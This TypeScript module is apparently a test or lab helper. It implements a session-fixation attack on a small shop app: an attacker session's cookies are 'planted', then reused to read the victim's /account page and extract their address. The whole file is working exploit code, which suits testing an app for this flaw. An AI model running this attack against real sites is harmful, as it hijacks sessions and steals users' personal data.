// A visitor with a jar, and the answer read as text.
type Fetch = typeof globalThis.fetch;

class Visitor {
  private readonly jar = new Map<string, string>();
  constructor(
    private readonly fetch: Fetch,
    private readonly base: string,
    cookies = '',
  ) {
    for (const pair of cookies.split('; ').filter(Boolean)) this.jar.set(pair.split('=')[0]!, pair.slice(pair.indexOf('=') + 1));
  }
  get cookies(): string {
    return [...this.jar].map((pair) => pair.join('=')).join('; ');
  }
  async go(method: string, path: string, body?: object): Promise<Response> {
    const headers: Record<string, string> = { cookie: this.cookies, 'content-type': 'application/json' };
    const answer = await this.fetch(new URL(path, this.base), {
      method,
      headers,
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
    for (const line of answer.headers.getSetCookie()) {
      const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(line) ?? [];
      this.jar.set(name, value);
    }
    return answer;
  }
}

export const plant = async (fetch: Fetch, baseUrl: string): Promise<string> => {
  const mallory = new Visitor(fetch, baseUrl);
  await mallory.go('GET', '/');
  await mallory.go('POST', '/cart', { article: 'apron' });
  await mallory.go('POST', '/cart', { article: 'tin' });
  return mallory.cookies;
};

export const collect = async (fetch: Fetch, baseUrl: string, planted: string): Promise<string | null> => {
  const text = await (await new Visitor(fetch, baseUrl, planted).go('GET', '/account')).text();
  return /"address":"([^"]*)"/.exec(text)?.[1] ?? null;
};
